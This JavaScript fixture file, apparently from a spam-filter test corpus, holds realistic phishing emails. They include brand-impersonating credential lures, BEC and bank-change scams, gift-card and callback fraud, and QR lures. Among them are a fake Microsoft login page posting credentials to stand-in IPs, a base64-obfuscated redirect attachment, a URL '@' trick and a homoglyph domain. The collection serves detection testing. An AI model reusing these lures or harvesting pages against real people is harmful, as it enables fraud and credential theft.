'use strict';
// Spam: phishing - credential lures, payment redirection / BEC, callback scams, QR lures, fake shares.
// Look-alike hosts imitate real brands (as real phishing does); every IP is in a documentation range.
const { pdf, png, qrLike, ics } = require('../build-attachments.cjs');
const { toText } = require('./_html.cjs');

const loginPage = (title, brand, action, extra = '') =>
  `<!DOCTYPE html>
<html><head><meta charset="utf-8"><meta name="robots" content="noindex,nofollow"><title>${title}</title>
<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f2f2f2}.box{width:340px;margin:70px auto;background:#fff;padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;padding:8px;margin:6px 0;border:1px solid #999}button{background:#0067b8;color:#fff;border:0;padding:9px 30px}</style></head>
<body><div class="box"><h2>${brand}</h2><p>Your session has expired. Sign in to view the protected document.</p>
<form method="post" action="${action}">
<input type="email" name="login" placeholder="Email, phone, or Skype" required>
<input type="password" name="passwd" placeholder="Password" required>
${extra}<button type="submit">Sign in</button></form>
<p style="font-size:12px;color:#666">Can't access your account?</p></div></body></html>
`;

const { dress } = require('./_headers.cjs');

module.exports = dress([
  {
    slug: 'paypal-account-limited',
    cat: 'phishing',
    date: '2025-02-03 07:41:19 +0000',
    from: 'PayPal <service@paypal-accountcenter-review.com>',
    to: 'jenna@mosaicprint.example',
    subject: 'Your account access has been limited (Case ID PP-L-5550-1182)',
    html: `<html><body style="background:#f5f7fa;font-family:Helvetica,Arial,sans-serif">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="padding:20px 30px"><img src="https://paypal-accountcenter-review.com/img/pp-logo.png" width="100" alt="PayPal"></td></tr>
<tr><td style="padding:0 30px 20px 30px;font-size:15px;color:#2c2e2f;line-height:22px">
<p>Dear Customer,</p>
<p>We noticed some unusual activity on your PayPal account and, as a precaution, we have limited what you can do with your account until you confirm your information.</p>
<p><b>What's the problem?</b><br>We believe an unauthorised party may have accessed your account. Transactions totalling <b>$1,284.00</b> have been placed on hold.</p>
<p>To restore full access, please log in and complete the verification within <b>24 hours</b>. Otherwise your account will be permanently limited.</p>
<p style="text-align:center"><a href="https://paypal-accountcenter-review.com/signin/?cmd=_limit&amp;case=PP-L-5550-1182" style="background:#0070ba;color:#fff;padding:12px 40px;border-radius:25px;text-decoration:none;font-weight:bold">Resolve now</a></p>
<p>Or copy this address into your browser: <a href="https://paypal-accountcenter-review.com/signin/?cmd=_limit&amp;case=PP-L-5550-1182">https://www.paypal.com/myaccount/security</a></p>
<p>Thanks,<br>PayPal</p>
</td></tr>
<tr><td style="padding:15px 30px;font-size:11px;color:#6c7378">Copyright &copy; 1999-2025 PayPal, Inc. All rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131.</td></tr>
</table></body></html>
`,
    get text() {
      return toText(this.html);
    },
  },
  {
    slug: 'm365-password-expiry-ip',
    cat: 'phishing',
    date: '2025-03-12 09:03:27 +0000',
    from: 'Microsoft 365 Administrator <no-reply@m365-notify-center.net>',
    to: 'oliver.grant@summitcloud.example',
    subject: 'Password expiration notice for oliver.grant@summitcloud.example',
    text: `Microsoft 365

The password for oliver.grant@summitcloud.example expires today.

To keep using your current password, confirm it below. Otherwise you will be signed out
of Outlook, Teams and OneDrive at 5:00 PM and will need to contact IT.

Keep current password:
http://198.51.100.41/owa/keep-password/?realm=summitcloud.example&user=oliver.grant

Microsoft respects your privacy. Review our Privacy Statement.
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
`,
    html: `<div style="font-family:Segoe UI,Arial;font-size:14px;max-width:520px">
<p style="font-size:18px;color:#0078d4">Microsoft 365</p>
<p>The password for <b>oliver.grant@summitcloud.example</b> expires <b>today</b>.</p>
<p>To keep using your current password, confirm it below. Otherwise you will be signed out of Outlook, Teams and OneDrive at 5:00 PM.</p>
<p><a href="http://198.51.100.41/owa/keep-password/?realm=summitcloud.example&amp;user=oliver.grant" style="background:#0078d4;color:#fff;padding:8px 18px;text-decoration:none">Keep current password</a></p>
<p style="font-size:11px;color:#777">Microsoft respects your privacy. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>
</div>
`,
  },
  {
    slug: 'dhl-customs-fee-shortlink',
    cat: 'phishing',
    date: '2025-05-08 11:17:02 +0200',
    from: 'DHL Express <noreply@dhl.com>',
    returnPath: 'bounce-7712@mail-out-srv14.example',
    midDomain: 'mail-out-srv14.example',
    replyTo: 'support@dhl-parcel-delivery-notice.com',
    to: 'b.lenz@lenz-verpackung.example',
    subject: 'DHL: Your shipment 5550182247 is on hold - customs fee unpaid',
    text: `DHL Express

Your shipment 5550182247 could not be delivered because an import duty of EUR 1.99
has not been paid.

Pay the fee to schedule delivery:
https://bit.ly/3DhL-fee

If payment is not received within 48 hours, the parcel will be returned to the sender.

DHL International GmbH
`,
  },
  {
    slug: 'chase-unusual-sign-in-spoofed',
    cat: 'phishing',
    date: '2025-06-17 02:14:50 -0400',
    from: 'Chase <no.reply.alerts@chase.com>',
    returnPath: 'mailer@srv-mx7.example',
    midDomain: 'srv-mx7.example',
    to: 'rokafor@summit-hvac.example',
    subject: 'Important: we have temporarily locked your online banking',
    html: `<div style="font-family:Arial;font-size:14px;max-width:560px;color:#333">
<div style="background:#117aca;color:#fff;padding:12px 20px;font-size:20px;font-weight:bold">CHASE</div>
<p>Dear Customer,</p>
<p>We detected a sign-in attempt to your account from an unrecognized device in <b>Lagos, Nigeria</b> on 06/17/2025 at 1:52 AM ET.</p>
<p>For your protection we have temporarily locked online access. To unlock your account, you must verify your identity, including your card number and PIN.</p>
<p><a href="https://chaseonline-verify-id.com/auth/logon?lock=55019">Verify my identity</a></p>
<p>If you do not verify within 12 hours, your debit card will be suspended.</p>
<p>Sincerely,<br>Chase Fraud Prevention</p>
<p style="font-size:10px;color:#999">JPMorgan Chase Bank, N.A. Member FDIC. &copy; 2025 JPMorgan Chase &amp; Co.</p>
</div>
`,
    get text() {
      return toText(this.html);
    },
  },
  {
    slug: 'sharepoint-file-compromised-vendor',
    cat: 'phishing',
    date: '2025-07-22 14:26:08 -0500',
    from: 'Kelly Ramos via SharePoint <kelly@ramos-cpa.example>',
    to: 'kmills@ironleaf-mfg.example',
    subject: 'Kelly Ramos shared "Ironleaf - Q2 Tax Documents" with you',
    html: `<table width="500" cellpadding="0" cellspacing="0" style="font-family:Segoe UI,Arial;font-size:14px;border:1px solid #e1e1e1">
<tr><td style="padding:20px">
<p style="font-size:21px;color:#333">Kelly Ramos shared a file with you</p>
<p>Here's the document that Kelly Ramos shared with you.</p>
<table cellpadding="8" style="background:#f4f4f4;width:100%"><tr><td><img src="https://kellyramoscpa-my.sharepoint-docs-view.top/_layouts/15/images/icpdf.png" width="24" alt=""> <b>Ironleaf - Q2 Tax Documents.pdf</b></td></tr></table>
<p style="margin-top:18px"><a href="https://kellyramoscpa-my.sharepoint-docs-view.top/:b:/g/personal/kelly_ramoscpa/EaX7?e=4%3aQ2tax" style="background:#0078d4;color:#fff;padding:8px 20px;text-decoration:none">Open</a></p>
<p style="font-size:12px;color:#666">This link will work only for the direct recipients of this message.</p>
<p style="font-size:11px;color:#999">Microsoft respects your privacy. To learn more, please read our Privacy Statement.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>
</td></tr></table>
`,
    get text() {
      return toText(this.html);
    },
  },
  {
    slug: 'docusign-web-app-hosted',
    cat: 'phishing',
    date: '2025-08-14 16:40:31 +0000',
    from: 'DocuSign via Signing Service <dse_na4@docusign-envelope-mail.net>',
    to: 'liam.foster@peakform-retail.example',
    subject: 'Completed: Please DocuSign: Peakform_Supplier_Agreement_2025.pdf',
    htmlOnly: true,
    html: `<div style="background:#eaeaea;padding:30px 0;font-family:Helvetica,Arial">
<table width="560" align="center" cellpadding="0" cellspacing="0" style="background:#1e4ca1;color:#fff"><tr><td style="padding:30px;text-align:center">
<p style="font-size:16px">Your document has been completed</p>
<a href="https://docusign-review-55021.web.app/#liam.foster@peakform-retail.example" style="display:inline-block;background:#ffc820;color:#333;padding:12px 30px;text-decoration:none;font-weight:bold;font-size:14px">VIEW COMPLETED DOCUMENT</a>
</td></tr></table>
<table width="560" align="center" cellpadding="0" cellspacing="0" style="background:#fff"><tr><td style="padding:24px;font-size:14px;color:#333">
<p><b>Procurement Team</b></p>
<p>All parties have completed Peakform_Supplier_Agreement_2025.pdf. Please review and keep a copy for your records.</p>
<p style="font-size:11px;color:#666">Do Not Share This Email<br>This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.</p>
</td></tr></table></div>
`,
  },
  {
    slug: 'apple-id-locked',
    cat: 'phishing',
    date: '2025-09-07 21:05:44 +0000',
    from: 'Apple Support <noreply@id-apple-support-case.com>',
    to: 'samira.haddad@hartwell-dental.example',
    subject: 'Your Apple ID has been locked for security reasons',
    text: `Dear Customer,

Your Apple ID (samira.haddad@hartwell-dental.example) was used to sign in to iCloud via
a web browser on an unknown device.

  Date and Time: September 7, 2025, 10:48 PM GMT
  Browser: Chrome on Windows
  Location: Sao Paulo, Brazil

Because we could not confirm this was you, your Apple ID has been locked. To unlock it,
please confirm your account details:

https://tinyurl.com/apple-id-unlock-5550

If you do not unlock your account within 24 hours, it will be permanently disabled and
all iCloud data will be deleted.

Apple Support
`,
  },
  {
    slug: 'netflix-payment-declined',
    cat: 'phishing',
    date: '2025-10-19 08:22:17 +0000',
    from: 'Netflix <info@netflix-billing-update.xyz>',
    to: 'office@tandem-coworking.example',
    subject: 'Your membership is on hold - update your payment details',
    html: `<div style="max-width:500px;font-family:Helvetica,Arial;font-size:15px;color:#221f1f">
<p style="color:#e50914;font-size:30px;font-weight:bold;letter-spacing:-1px">NETFLIX</p>
<p><b>Please update your payment information</b></p>
<p>Hi,</p>
<p>We're having some trouble with your current billing information. We'll try again, but in the meantime you may want to update your payment details.</p>
<p><a href="https://netflix-billing-update.xyz/account/payment?uid=55019" style="background:#e50914;color:#fff;padding:12px 26px;text-decoration:none;display:inline-block">UPDATE ACCOUNT NOW</a></p>
<p>Need help? We're here if you need it. Visit the Help Center or contact us now.</p>
<p>&ndash;The Netflix Team</p>
</div>
`,
    get text() {
      return toText(this.html);
    },
  },
  {
    slug: 'amazon-order-callback-no-link',
    cat: 'phishing',
    date: '2025-11-29 13:31:05 -0500',
    from: 'Amazon.com <order-update@amazon-orders-billing.example>',
    to: 'dreyes@alvarez-construction.example',
    subject: 'Your Amazon.com order #112-5550184-2210 has been placed ($849.99)',
    text: `Hello,

Thank you for shopping with us. Your order has been placed and will be delivered
within 2-3 business days.

  Order #112-5550184-2210
  Apple iPhone 16 Pro 256GB - Desert Titanium      $849.99
  Ship to: Michael T., 1780 Ridge Ave, Newark NJ
  Payment: Visa ending in **** 

If you did not authorize this purchase, please call our Fraud Department immediately
at +1 (844) 555-0187 to cancel the order and receive a full refund. Our lines are open
24/7. Orders not disputed within 24 hours cannot be refunded.

Amazon.com Customer Service
`,
  },
  {
    slug: 'antivirus-renewal-pdf-callback',
    cat: 'phishing',
    date: '2025-04-24 10:58:36 -0500',
    from: 'Billing Department <billing.dept.7731@subscription-renewals.example>',
    to: 'aruiz@ruiz-family-law.example',
    subject: 'Invoice #GS-55019-4471: Auto-renewal successful ($399.99)',
    text: `Dear Customer,

Thank you for renewing your Geek Squad Total Protection plan. Your account has been
charged $399.99. Your invoice is attached.

If you wish to cancel the renewal and claim a refund, please contact our billing
support within 24 hours: +1 (808) 555-0192.

Regards,
Billing Department
`,
    att: [
      {
        name: 'Invoice_GS-55019-4471.pdf',
        type: 'application/pdf',
        content: pdf('Geek Squad - Invoice GS-55019-4471', [
          'Product: Geek Squad Total Protection (3 devices, 2 years)',
          'Amount charged: 399.99 USD    Status: PAID - AUTO-RENEWAL',
          'Payment method: card on file',
          '',
          'Not you? To cancel and get a FULL REFUND call +1 (808) 555-0192 within 24 hours.',
          'Helpline: +1 (808) 555-0192 (toll free, 24/7)',
        ]),
      },
    ],
  },
  {
    slug: 'valley-crm-lookalike-billing',
    cat: 'phishing',
    date: '2025-09-17 12:44:02 +0000',
    from: 'Valley CRM Billing <billing@valleycrm-accounts.example>',
    to: 'oliver.grant@summitcloud.example',
    subject: 'Action required: your Valley CRM workspace will be suspended',
    html: `<div style="font-family:Arial,sans-serif;font-size:15px;color:#1f2d3d;max-width:540px">
<p><b>Valley CRM</b></p>
<p>Hello,</p>
<p>We were unable to process the payment for your <b>Summit Cloud Hosting</b> workspace. After three failed attempts, your workspace is scheduled for suspension <b>today at 23:59 UTC</b>. All contacts, pipelines and email history will be deleted after 7 days.</p>
<p>Update your billing details to avoid interruption:</p>
<p><a href="https://app.valleycrm-accounts.example/billing/update?ws=summitcloud" style="background:#2563eb;color:#fff;padding:11px 22px;text-decoration:none;border-radius:4px">https://app.valleycrm.example/settings/billing</a></p>
<p>Valley CRM Billing</p>
<p style="font-size:12px;color:#8492a6">Valley CRM, Inc. &middot; 500 Orchard Ave, Suite 300, Fresno, CA 93721</p>
</div>
`,
    get text() {
      return toText(this.html);
    },
  },
  {
    slug: 'mailbox-quota-ip-port',
    cat: 'phishing',
    date: '2025-01-30 05:12:40 +0000',
    from: '"Mail Administrator" <postmaster@webmail-quota-alert.example>',
    to: 'h.clarke@northgate-supplies.example',
    subject: 'Mailbox storage 99% full - incoming messages suspended',
    eol: 'lf',
    text: `Dear h.clarke,

Your mailbox h.clarke@northgate-supplies.example has exceeded the storage limit
(1.98 GB of 2 GB). 14 incoming messages are pending delivery.

To increase your quota and release pending messages, validate your account below:

http://203.0.113.88:8080/webmail/quota/upgrade.php?email=h.clarke@northgate-supplies.example

Failure to validate within 24 hours will result in your mailbox being deactivated.

Mail Administrator
northgate-supplies.example
`,
  },
  {
    slug: 'hmrc-tax-refund',
    cat: 'phishing',
    date: '2025-04-07 08:00:51 +0100',
    from: 'HM Revenue & Customs <refunds@gov-uk-taxrefund-portal.com>',
    to: 'h.clarke@northgate-supplies.example',
    subject: 'You are eligible for a tax refund of £612.40',
    html: `<div style="font-family:Arial;font-size:16px;max-width:560px">
<div style="background:#0b0c0c;color:#fff;padding:10px 15px;font-weight:bold">GOV.UK</div>
<h2>HM Revenue &amp; Customs</h2>
<p>After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of <b>&pound;612.40</b>.</p>
<p>Please submit the tax refund request and allow us 3-5 business days to process it.</p>
<p><a href="https://gov-uk-taxrefund-portal.com/hmrc/claim?ref=HMRC-55019">Claim your refund</a></p>
<p>A refund can be delayed for a variety of reasons, for example submitting invalid records or applying after the deadline.</p>
<p>HM Revenue &amp; Customs</p>
</div>
`,
    get text() {
      return toText(this.html);
    },
  },
  {
    slug: 'impots-remboursement-fr',
    cat: 'phishing',
    lang: 'fr',
    date: '2025-05-26 10:10:44 +0200',
    from: 'impots.gouv.fr <ne-pas-repondre@dgfip-remboursement-impots.info>',
    to: 'communication@groupe-vernet.example',
    subject: 'Avis de remboursement – 348,20 € en attente de validation',
    text: `DIRECTION GÉNÉRALE DES FINANCES PUBLIQUES

Madame, Monsieur,

Après les derniers calculs de votre activité fiscale, nous avons déterminé que vous
pouvez bénéficier d'un remboursement d'un montant de 348,20 €.

Pour recevoir votre remboursement, veuillez compléter le formulaire en ligne et
confirmer vos coordonnées bancaires :

https://dgfip-remboursement-impots.info/particulier/remboursement?id=FR55019

Sans validation sous 72 heures, votre dossier sera clôturé.

Service des impôts des particuliers
`,
  },
  {
    slug: 'ceo-gift-cards-no-link',
    cat: 'phishing',
    date: '2025-12-12 09:47:03 +0000',
    from: 'Fiona Harbor <fiona.harbor.partner@webmail-free.example>',
    to: 'Amira Shah <amira@harborfinch.example>',
    subject: 'Quick favour',
    eol: 'lf',
    text: `Hi Amira,

Are you at your desk? I'm stuck in back-to-back client meetings and need you to handle
something discreetly. I want to surprise a few of the staff with gift cards before the
Christmas party. Can you pick up 6 Apple gift cards at £200 each from the shop on your
way or online?

Scratch off the back, take clear photos of the codes and email them to me. I'll
reimburse you this afternoon. Please keep this between us, it's a surprise.

Fiona

Sent from my iPhone
`,
  },
  {
    slug: 'bec-bank-details-change-thread',
    cat: 'phishing',
    date: '2025-07-17 14:02:19 +0100',
    from: 'Amira Shah <accounts@harborflnch.example>',
    replyTo: 'Amira Shah <amira.shah.accounts@harborflnch.example>',
    to: 'Hannah Clarke <h.clarke@northgate-supplies.example>',
    subject: 'RE: Reminder: invoice HF-2025-0611 is 15 days overdue',
    headers: { 'In-Reply-To': '<hf-reminder-0611-20250716@harborfinch.example>', References: '<hf-reminder-0611-20250716@harborfinch.example>' },
    text: `Dear Hannah,

Further to yesterday's reminder, please note that our bank account details have changed
due to an ongoing audit, and payments to the old account will be returned.

Kindly make the payment of £1,044.00 for HF-2025-0611 to our new account below and send
me the remittance once done:

  Account name:  Harbor & Finch LLP
  Bank:          Meridian Commerce Bank
  Sort code:     00-00-55
  Account no.:   55501882
  IBAN:          GB00 MCBK 0000 5555 0188 20

Please do not call the office number on the invoice as the line is being transferred
this week; email is the best way to reach me.

Kind regards,
Amira Shah
Accounts, Harbor & Finch

-----Original Message-----
From: Harbor & Finch Accounts <accounts@harborfinch.example>
Sent: 16 July 2025 09:15
Subject: Reminder: invoice HF-2025-0611 is 15 days overdue

Our records show that invoice HF-2025-0611 for £1,044.00, due on 1 July, hasn't been
paid yet...
`,
  },
  {
    slug: 'ceo-wire-transfer-urgent',
    cat: 'phishing',
    date: '2025-03-27 16:18:44 -0400',
    from: 'Greg Foster <gfoster.ceo@cascade-benefits-group.example>',
    to: 'accounting@cascade-benefits.example',
    subject: 'Confidential - acquisition payment today',
    text: `Hi,

I need you to process a wire transfer today for an acquisition we're finalising. This is
confidential until the announcement next week, so please don't discuss it with anyone
else in the office yet.

Amount: $48,750.00
Our attorney will send you the wiring instructions shortly.

I'm in meetings all afternoon and can't take calls, so reply by email only. Let me know
as soon as it's done.

Greg Foster
Sent from my mobile device
`,
  },
  {
    slug: 'payroll-direct-deposit-change',
    cat: 'phishing',
    date: '2025-10-27 08:03:11 -0500',
    from: 'Dan Reyes <dan.reyes.mobile@webmail-free.example>',
    to: 'Payroll <payroll@alvarez-construction.example>',
    subject: 'Direct deposit update before Friday',
    text: `Hello,

I recently changed banks and would like to update my direct deposit information before
the next payroll run. Can you make the change for this Friday's check? What details do
you need from me - routing number and account number?

Thanks,
Dan Reyes
`,
  },
  {
    slug: 'google-slides-abuse-share',
    cat: 'phishing',
    date: '2025-06-02 19:27:48 +0000',
    from: 'Greenfold Accounts (via Google Slides) <drive-shares-dm-noreply@greenfold-shares.example>',
    to: 'purchasing@kingfisher-foods.example',
    subject: 'Document shared with you: "Statement of account - June 2025"',
    html: `<div style="font-family:Roboto,Arial;font-size:14px;max-width:480px;border:1px solid #dadce0;border-radius:8px;padding:24px">
<p><b>Greenfold Accounts</b> shared a presentation</p>
<p style="border:1px solid #dadce0;padding:10px">&#128196; Statement of account - June 2025</p>
<p>Please review the attached statement and remittance instructions. Access requires verification with your company email.</p>
<p><a href="https://docs.google.com/presentation/d/e/2PACX-1vQx7Y55019GreenfoldStmtJun25pQrT/pub?start=false" style="background:#1a73e8;color:#fff;padding:9px 24px;border-radius:4px;text-decoration:none">Open</a></p>
<p style="font-size:11px;color:#5f6368">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA. You have received this email because someone shared a presentation with you from Google Slides.</p>
</div>
`,
    get text() {
      return toText(this.html);
    },
  },
  {
    slug: 'linkedin-linkedln-message',
    cat: 'phishing',
    date: '2025-02-20 15:55:02 +0000',
    from: 'LinkedIn <messages-noreply@linkedln-mail.com>',
    to: 'ben.okoro@tidewell-hr.example',
    subject: 'You have 3 new messages from recruiters',
    html: `<div style="font-family:-apple-system,Arial;max-width:500px;font-size:14px">
<p style="color:#0a66c2;font-size:22px;font-weight:bold">Linked<span style="background:#0a66c2;color:#fff;padding:0 3px;border-radius:2px">in</span></p>
<p>Hi Ben,</p>
<p>You have <b>3 new messages</b> waiting for you.</p>
<p><b>Sarah Mitchell</b> &middot; Talent Partner at a Fortune 500 company<br>"Hi Ben, I came across your profile and I think you'd be a great fit for a Director role..."</p>
<p><a href="https://linkedln-mail.com/messaging/thread/2-55019?trk=eml-msg" style="background:#0a66c2;color:#fff;padding:9px 22px;border-radius:20px;text-decoration:none">View messages</a></p>
<p style="font-size:11px;color:#888">This email was intended for Ben Okoro. &copy; 2025 LinkedIn Corporation, 1000 West Maude Avenue, Sunnyvale, CA 94085.</p>
</div>
`,
    get text() {
      return toText(this.html);
    },
  },
  {
    slug: 'dropbox-transfer-r2-hosted',
    cat: 'phishing',
    date: '2025-08-28 10:31:57 +0000',
    from: 'Dropbox <no-reply@dropbox-transfer-files.app>',
    to: 'ap@delta-conveyor.example',
    subject: 'Ironleaf Manufacturing sent you files via Dropbox Transfer',
    html: `<div style="font-family:Arial;font-size:15px;max-width:480px;color:#1e1919">
<p style="color:#0061fe;font-size:22px"><b>Dropbox</b></p>
<p><b>Ironleaf Manufacturing</b> sent you 3 files (2.4 MB)</p>
<p>"Updated remittance and banking information for Q3 - please review before next payment run."</p>
<ul><li>Remittance_Q3_Ironleaf.pdf</li><li>Bank_Letter_Updated.pdf</li><li>W9_2025.pdf</li></ul>
<p><a href="https://pub-3f9a1c7e2b4d4e1a.r2.dev/dropbox/transfer/index.html?id=ap%40delta-conveyor.example" style="background:#0061fe;color:#fff;padding:11px 24px;text-decoration:none;border-radius:4px">View files</a></p>
<p style="font-size:12px;color:#777">Files expire in 3 days.</p>
</div>
`,
    get text() {
      return toText(this.html);
    },
  },
  {
    slug: 'html-attachment-m365-login',
    cat: 'phishing',
    date: '2025-05-14 07:20:36 +0000',
    from: 'Accounts Payable <ap-notifications@secure-remit-portal.example>',
    to: 'ar@ironleaf-mfg.example',
    subject: 'Payment Remittance Advice - INV-31150 ($2,535.00)',
    text: `Hello,

Please find attached remittance advice for payment of INV-31150.

The document is protected. Open the attachment and sign in with your email account to
view it.

Thank you,
Accounts Payable
`,
    att: [
      {
        name: 'Remittance_INV-31150.htm',
        type: 'text/html',
        content: Buffer.from(loginPage('Microsoft Office 365', 'Microsoft', 'http://198.51.100.23/owa/auth/remit.php'), 'utf8'),
      },
    ],
  },
  {
    slug: 'html-attachment-atob-redirect',
    cat: 'phishing',
    date: '2025-10-09 13:48:20 +0000',
    from: 'Adobe Document Cloud <documents@adobe-doc-cloud-share.example>',
    to: 'facturacion@ortega-distribuciones.example',
    subject: 'Pago pendiente: factura adjunta (Adobe PDF)',
    lang: 'es',
    text: `Estimado cliente,

Le enviamos adjunta la factura pendiente de pago. Para visualizarla abra el archivo
adjunto con su navegador.

Atentamente,
Departamento de Administración
`,
    att: [
      {
        name: 'Factura_pendiente_0925.shtml',
        type: 'application/octet-stream',
        content: Buffer.from(
          `<html><head><title>Adobe Document Cloud</title></head><body>
<p style="font-family:Arial">Loading document, please wait...</p>
<script>
var e = "facturacion@ortega-distribuciones.example";
var u = atob("aHR0cHM6Ly8yMDMuMC4xMTMuMTQvYWRvYmUvdmlldy8/ZT0=");
window.location.href = u + encodeURIComponent(e);
</script>
</body></html>
`,
          'utf8',
        ),
      },
    ],
  },
  {
    slug: 'ups-userinfo-at-trick',
    cat: 'phishing',
    date: '2025-11-21 09:02:10 -0500',
    from: 'UPS My Choice <mcinfo@ups-mychoice-alerts.com>',
    to: 'bcastillo@delta-conveyor.example',
    subject: 'UPS Update: Delivery attempt failed - action required',
    html: `<div style="font-family:Arial;font-size:14px;max-width:520px">
<div style="background:#351c15;color:#ffb500;padding:14px;font-weight:bold;font-size:18px">UPS</div>
<p>We attempted to deliver your package today but no one was available to sign for it.</p>
<p>Tracking number: <b>1Z 999 AA1 05 5501 8824</b></p>
<p>Please confirm your delivery address and choose a new delivery date. A redelivery fee of $2.15 applies.</p>
<p><a href="https://www.ups.com@198.51.100.7/tracking/redelivery?tn=1Z999AA10555018824">https://www.ups.com/tracking/redelivery</a></p>
<p style="font-size:11px;color:#888">&copy; 2025 United Parcel Service of America, Inc.</p>
</div>
`,
    get text() {
      return toText(this.html);
    },
  },
  {
    slug: 'metamask-punycode-wallet',
    cat: 'phishing',
    date: '2025-12-08 18:40:00 +0000',
    from: 'MetaMask <support@metamask-wallet-notice.io>',
    to: 'nate@quarrysoft.example',
    subject: 'Wallet verification required - avoid suspension',
    html: `<div style="font-family:Arial;font-size:15px;max-width:500px">
<p style="font-size:22px;color:#f6851b"><b>&#129418; MetaMask</b></p>
<p>Dear user,</p>
<p>Due to new regulatory requirements, all MetaMask wallets must be verified by <b>December 12, 2025</b>. Unverified wallets will have restricted access to funds.</p>
<p>Verification takes less than 2 minutes. You will be asked to confirm your Secret Recovery Phrase.</p>
<p><a href="https://${require('node:url').domainToASCII('metamаsk.io')}/verify" style="background:#037dd6;color:#fff;padding:12px 28px;border-radius:24px;text-decoration:none">Verify wallet</a></p>
<p style="font-size:11px;color:#999">&copy; 2025 ConsenSys Software Inc.</p>
</div>
`,
    get text() {
      return toText(this.html);
    },
  },
  {
    slug: 'zoom-missed-meeting-recording',
    cat: 'phishing',
    date: '2025-04-02 17:11:29 +0000',
    from: 'Zoom <no-reply@zoom-cloud-recording.us>',
    to: 'priya@kestrel-analytics.example',
    subject: 'You missed a meeting with Owen Blake - recording available',
    text: `Zoom

Hi Priya,

Owen Blake started a scheduled meeting "Hartwell contract follow-up" and you were not
able to join. A cloud recording (23:14) is now available.

Play recording:
https://zoom-cloud-recording.us/rec/play/Owen-Blake-Hartwell?pwd=KxT5550

You will need to sign in with your work email to view the recording.

Zoom Video Communications, Inc.
`,
  },
  {
    slug: 'voicemail-html-attachment',
    cat: 'phishing',
    date: '2025-09-29 11:06:33 -0400',
    from: 'Voice Message Center <voicemail@pbx-notify-service.example>',
    to: 'aruiz@ruiz-family-law.example',
    subject: 'New voice message from +1 (813) 555-0177 - 0:47',
    text: `You have received a new voice message.

  From:     +1 (813) 555-0177
  Received: Monday, September 29, 2025 11:05 AM
  Length:   00:47

The message is attached. Open it in your browser to listen.

Unified Messaging Service
`,
    att: [
      {
        name: 'VoiceMessage_0929_1105.wav.html',
        type: 'text/html',
        content: Buffer.from(
          loginPage('Voicemail - Microsoft', 'Microsoft', 'https://203.0.113.61/vm/login.php', '<p style="font-size:13px">&#9654; Voice message 00:47 - sign in to play</p>\n'),
          'utf8',
        ),
      },
    ],
  },
  {
    slug: 'meta-page-violation-appeal',
    cat: 'phishing',
    date: '2025-07-03 06:50:17 +0000',
    from: 'Meta for Business <policy-alerts@business-meta-appeals.com>',
    to: 'marketing@greenfold-packaging.example',
    subject: 'Your Page "Greenfold Packaging" will be permanently deleted',
    html: `<div style="font-family:Helvetica,Arial;font-size:14px;max-width:520px;color:#1c1e21">
<p style="color:#0866ff;font-size:20px"><b>Meta</b></p>
<p><b>Your Page has been scheduled for permanent deletion</b></p>
<p>We have received multiple reports that your Page "Greenfold Packaging" violates our trademark and intellectual property policies. Your Page and associated ad account will be permanently deleted within <b>24 hours</b>.</p>
<p>If you believe this is a mistake, you may submit an appeal. You will be asked to confirm your Page ownership.</p>
<p><a href="https://business-help-appeal-55019.web.app/case/GF-1182" style="background:#0866ff;color:#fff;padding:10px 24px;text-decoration:none;border-radius:6px">Submit appeal</a></p>
<p style="font-size:11px;color:#888">Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025</p>
</div>
`,
    get text() {
      return toText(this.html);
    },
  },
  {
    slug: 'adobe-pdf-shared-ipfs',
    cat: 'phishing',
    date: '2025-01-21 12:03:55 +0000',
    from: 'Adobe Acrobat <acrobat-share@adobe-sign-documents.example>',
    to: 'purchasing@delta-conveyor.example',
    subject: 'Brian Castillo has shared "PO_88-40217_revised.pdf" with you',
    htmlOnly: true,
    html: `<div style="font-family:Arial;font-size:14px;max-width:500px;border-top:4px solid #fa0f00;padding:20px">
<p><b>Brian Castillo</b> (bcastillo@delta-conveyor.example) has shared a document with you</p>
<p style="background:#f5f5f5;padding:12px">&#128462; PO_88-40217_revised.pdf &middot; 184 KB</p>
<p><a href="https://ipfs.io/ipfs/bafybeihx7q2k5550po88revisedadobeviewq3m4n5/index.html#purchasing@delta-conveyor.example" style="background:#1473e6;color:#fff;padding:10px 24px;border-radius:16px;text-decoration:none">Open</a></p>
<p style="font-size:11px;color:#999">Adobe Acrobat &middot; 345 Park Avenue, San Jose, CA 95110</p>
</div>
`,
  },
  {
    slug: 'qr-code-mfa-reset-image-only',
    cat: 'phishing',
    date: '2025-03-04 08:15:40 +0000',
    from: 'IT Service Desk <it-helpdesk@summitcloud-support.example>',
    to: 'oliver.grant@summitcloud.example',
    subject: 'ACTION REQUIRED: Re-register multi-factor authentication',
    html: `<div style="font-family:Segoe UI,Arial;font-size:14px">
<p><img src="cid:mfa-qr" width="180" height="180" alt=""></p>
<p style="font-size:11px;color:#888">Scan with your phone camera</p>
</div>
`,
    inline: [{ cid: 'mfa-qr', name: 'MFA_reset.png', content: qrLike('mfa-summitcloud') }],
    text: `Your multi-factor authentication expires today. Scan the QR code with your mobile
phone camera to re-register. Do not use a computer.
`,
  },
  {
    slug: 'qr-bonus-statement',
    cat: 'phishing',
    date: '2025-12-19 10:22:05 +0000',
    from: 'HR Department <hr-notifications@peakform-benefits.example>',
    to: 'liam.foster@peakform-retail.example',
    subject: 'Your 2025 year-end bonus statement is ready',
    htmlOnly: true,
    html: `<div style="font-family:Arial;font-size:14px;max-width:480px">
<p>Dear Liam,</p>
<p>Your 2025 year-end bonus statement has been published. For data protection reasons it can only be viewed on a registered mobile device.</p>
<p>Scan the code below with your phone camera and sign in with your Peakform credentials.</p>
<p><img src="cid:bonus-qr" width="165" height="165" alt="QR"></p>
<p>The statement will be available until 22 December.</p>
<p>Human Resources &ndash; Compensation &amp; Benefits</p>
</div>
`,
